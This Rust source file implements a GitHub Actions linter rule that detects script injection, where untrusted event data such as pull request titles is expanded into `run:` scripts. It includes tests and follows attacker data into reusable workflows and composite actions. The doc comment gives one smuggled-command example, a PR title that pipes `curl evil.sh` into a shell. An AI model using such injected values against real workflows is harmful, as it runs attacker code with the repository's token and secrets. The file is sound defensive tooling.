use super::{is_action, jobs, steps};
use crate::parse::yaml::{YNode, YamlFile};
use crate::rules::{Cx, Project, ProjectCx, Rule, declare_rule, rule_meta};
use crate::source::Loc;

declare_rule! {
    /// ## What it does
    /// Flags `${{ … }}` expressions in `run:` scripts (and `actions/github-script`'s
    /// `script:`) that expand attacker-controllable context: `github.event.*` (titles,
    /// bodies, branch names, commit messages, labels, …), `github.head_ref`, and
    /// `workflow_dispatch` inputs (`inputs.*`, `github.event.inputs.*`) that hold free
    /// text. Fields that are numbers, SHAs, ids, timestamps or booleans are exempt, and so
    /// are inputs typed `choice`, `boolean` or `number`. Composite actions (`action.yml`)
    /// are checked like workflows.
    ///
    /// The inputs of a reusable workflow (`workflow_call`) or a composite action hold
    /// whatever their callers pass, so they are judged where they are passed: a job or
    /// step in the same repository (`uses: ./…`) that passes attacker data to an input the
    /// callee expands into a script is reported at the `with:` entry that passes it.
    ///
    /// ## Why is this bad?
    /// The expression is pasted into the script before the shell runs it. A pull request
    /// titled `a"; curl evil.sh | sh; echo "` runs that command in your workflow, with its
    /// token and secrets.
    ///
    /// ## Example
    /// ```yaml
    /// - run: echo "Title: ${{ github.event.pull_request.title }}"
    /// ```
    ///
    /// ## Use instead
    /// ```yaml
    /// - run: echo "Title: $TITLE"
    ///   env:
    ///     TITLE: ${{ github.event.pull_request.title }}
    /// ```
    ///
    /// ## References
    /// - Understanding the risk of script injections: <https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections>
    /// - zizmor `template-injection`: <https://docs.zizmor.sh/audits/#template-injection>
    pub struct ScriptInjection {
        code: "GH004",
        name: "script-injection",
        family: Workflow,
        severity: Error,
        summary: "untrusted event data expanded into a script",
        fix: "pass the value through `env:` and use the shell variable (`\"$TITLE\"`) in the script",
    }
}

const SAFE_SUFFIXES: &[&str] = &[
    ".number",
    ".id",
    ".sha",
    "_sha",
    ".before",
    ".after",
    "_at",
    ".draft",
    ".merged",
    ".size",
    ".run_id",
    ".run_number",
    ".run_attempt",
    ".node_id",
    ".commits",
    ".additions",
    ".deletions",
    ".changed_files",
    ".forced",
    ".created",
    ".deleted",
    ".action",
    ".private",
    ".fork",
];

/// Dangerous context references inside one `${{ … }}` expression. An expression whose
/// value is a boolean (a comparison, `contains(…)`, `startsWith(…)`, `endsWith(…)`) cannot
/// carry attacker text, and an index (`pull_requests[0].number`) is read as a property.
pub fn dangerous(expr: &str) -> Option<String> {
    let inner = expr
        .trim()
        .trim_start_matches("${{")
        .trim_end_matches("}}")
        .trim();
    if is_boolean(inner) {
        return None;
    }
    let indexed = without_indexes(inner);
    let tokens =
        indexed.split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '*')));
    tokens
        .filter(|t| {
            t.starts_with("github.event.") || t.starts_with("inputs.") || *t == "github.head_ref"
        })
        .find(|t| !SAFE_SUFFIXES.iter().any(|s| t.ends_with(s)))
        .map(str::to_string)
}

/// Whether the expression's value is `true` or `false`: one comparison or one boolean
/// function, with no `&&`/`||` (which yield one of their operands, text included).
/// Operators inside string literals (`format('<{0}>', …)`) do not count.
fn is_boolean(expr: &str) -> bool {
    let bare = without_literals(expr);
    if bare.contains("&&") || bare.contains("||") {
        return false;
    }
    let comparison = ["==", "!=", "<=", ">=", "<", ">"]
        .iter()
        .any(|operator| bare.contains(operator));
    let function = ["contains(", "startsWith(", "endsWith(", "!"]
        .iter()
        .any(|name| bare.starts_with(name))
        && bare.ends_with(')');
    comparison || function
}

/// The expression with the text of its `'…'` string literals removed (`''` is a quote).
fn without_literals(expr: &str) -> String {
    let mut out = String::with_capacity(expr.len());
    let mut in_literal = false;
    for c in expr.chars() {
        if c == '\'' {
            in_literal = !in_literal;
            out.push(c);
        } else if !in_literal {
            out.push(c);
        }
    }
    out
}

/// `a[0].b` and `a['x'].b` as `a.*.b`.
fn without_indexes(expr: &str) -> String {
    let mut out = String::with_capacity(expr.len());
    let mut depth = 0usize;
    for c in expr.chars() {
        match c {
            '[' => {
                if depth == 0 {
                    out.push_str(".*");
                }
                depth += 1;
            }
            ']' if depth > 0 => depth -= 1,
            _ if depth > 0 => {}
            _ => out.push(c),
        }
    }
    out
}

/// Whether an input's text is not the workflow's to worry about here: a
/// `workflow_dispatch` input typed `choice`, `boolean` or `number` holds only what the
/// workflow allows, and the inputs of a reusable workflow (`workflow_call`) or of a
/// composite action are set by their caller, where [`ScriptInjection::project`] follows
/// attacker data into them.
fn trusted_input(file: &YamlFile, reference: &str) -> bool {
    let (name, dispatch_only) = match reference.strip_prefix("github.event.inputs.") {
        Some(name) => (name, true),
        None => match reference.strip_prefix("inputs.") {
            Some(name) => (name, false),
            None => return false,
        },
    };
    if is_action(file) && !dispatch_only {
        return true;
    }
    let declared = |event: &str| {
        file.docs.iter().find_map(|doc| {
            doc.get("on")
                .or_else(|| doc.get("true"))
                .and_then(|on| on.path(&[event, "inputs", name]))
        })
    };
    if let Some(input) = declared("workflow_dispatch") {
        return input
            .get("type")
            .and_then(YNode::as_str)
            .is_some_and(|kind| matches!(kind, "choice" | "boolean" | "number"));
    }
    !dispatch_only && declared("workflow_call").is_some()
}

/// The `${{ … }}` expressions of a script, with their text.
fn expressions(script: &str) -> impl Iterator<Item = &str> {
    let mut rest = script;
    std::iter::from_fn(move || {
        let start = rest.find("${{")?;
        let length = rest[start..].find("}}")?;
        let expression = &rest[start..start + length + 2];
        rest = &rest[start + length + 2..];
        Some(expression)
    })
}

/// The scripts a file runs: `run:` and `actions/github-script`'s `script:`.
fn scripts(file: &YamlFile) -> impl Iterator<Item = &YNode> {
    steps(file).flat_map(|step| {
        let github_script = step
            .get("uses")
            .and_then(YNode::as_str)
            .is_some_and(|uses| uses.starts_with("actions/github-script@"));
        step.get("run")
            .into_iter()
            .chain(step.path(&["with", "script"]).filter(|_| github_script))
    })
}

/// Whether a reusable workflow or a composite action expands `inputs.NAME` into a script.
fn expands_input(callee: &YamlFile, name: &str) -> bool {
    let wanted = format!("inputs.{name}");
    scripts(callee).filter_map(YNode::as_str).any(|script| {
        expressions(script).any(|expression| {
            expression
                .split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-')))
                .any(|token| token == wanted)
        })
    })
}

fn check(node: &YNode, file: &YamlFile, cx: &mut Cx<'_>) {
    let Some(script) = node.as_str() else { return };
    for expr in expressions(script) {
        if let Some(reference) = dangerous(expr).filter(|r| !trusted_input(file, r)) {
            let loc = locate(file, node.line, expr).unwrap_or_else(|| node.loc(&file.src));
            cx.report(
                loc,
                format!("`{reference}` is expanded into the script before it runs"),
            );
        }
    }
}

/// A local reusable workflow or action a job or step calls (`uses: ./…`), and the
/// inputs it passes.
fn local_callees<'a>(file: &'a YamlFile) -> impl Iterator<Item = (&'a str, &'a YNode)> + 'a {
    let called_jobs = jobs(file).map(|(_, job)| job);
    called_jobs.chain(steps(file)).filter_map(|caller| {
        let target = caller.get("uses")?.as_str()?.strip_prefix("./")?;
        Some((target, caller.get("with")?))
    })
}

/// The line of an expression, searching from the node's line on.
fn locate(file: &YamlFile, from: usize, expr: &str) -> Option<Loc> {
    (from..=file.src.line_count())
        .find(|&l| file.src.line_text(l).contains(expr))
        .map(|l| file.src.find_on_line(l, expr))
}

impl Rule for ScriptInjection {
    rule_meta!();

    fn workflow(&self, file: &YamlFile, cx: &mut Cx<'_>) {
        for script in scripts(file) {
            check(script, file, cx);
        }
    }

    /// Attacker data passed to a reusable workflow's or a composite action's input, which
    /// it expands into a script: reported where it is passed, since the callee cannot
    /// know what its callers give it.
    fn project(&self, project: &Project, cx: &mut ProjectCx<'_>) {
        let callees: Vec<&YamlFile> = project.workflows.iter().chain(&project.actions).collect();
        for caller in &project.workflows {
            let repository = project.repository_of(&caller.src);
            for (target, inputs) in local_callees(caller) {
                let path = repository.join(target);
                let callee = callees.iter().find(|callee| {
                    callee.src.path == path
                        || callee.src.path.parent() == Some(path.as_path()) && is_action(callee)
                });
                let Some(callee) = callee else { continue };
                for (name, key, value) in inputs.entries() {
                    let Some(text) = value.as_str() else { continue };
                    let passed = expressions(text).find_map(dangerous);
                    if let Some(reference) = passed
                        && expands_input(callee, name)
                    {
                        cx.report(
                            &caller.src,
                            key.loc(&caller.src),
                            format!("`{reference}` reaches a script of `{target}` through its input `{name}`"),
                        );
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::dangerous;

    #[test]
    fn booleans_and_indexed_numbers_are_safe() {
        for safe in [
            "${{ github.event.workflow_run.pull_requests[0].number }}",
            "${{ github.event.label.name == 'bug' }}",
            "${{ contains(github.event.pull_request.title, 'wip') }}",
            "${{ github.event.commits.*.id }}",
        ] {
            assert_eq!(dangerous(safe), None, "{safe}");
        }
        for unsafe_ in [
            "${{ github.event.pull_request.title }}",
            "${{ github.event.label.name == 'x' && github.event.issue.title }}",
            "${{ github.event.pull_requests[0].head.ref }}",
            "${{ format('{0} <{1}>', github.event.head_commit.author.name, 'x') }}",
            "${{ format('<!-- {0} -->', github.event.pull_request.body) }}",
        ] {
            assert!(dangerous(unsafe_).is_some(), "{unsafe_}");
        }
    }

    #[test]
    fn dangerous_contexts() {
        assert!(dangerous("${{ github.event.pull_request.title }}").is_some());
        assert!(dangerous("${{ github.head_ref }}").is_some());
        assert!(dangerous("${{ github.event.pull_request.number }}").is_none());
        assert!(dangerous("${{ github.event.pull_request.head.sha }}").is_none());
        assert!(dangerous("${{ github.sha }}").is_none());
        assert!(dangerous("${{ toJSON(github.event.issue.body) }}").is_some());
        assert!(dangerous("${{ inputs.version }}").is_some());
        assert!(dangerous("${{ inputs.dry-run == 'true' }}").is_none());
    }
}
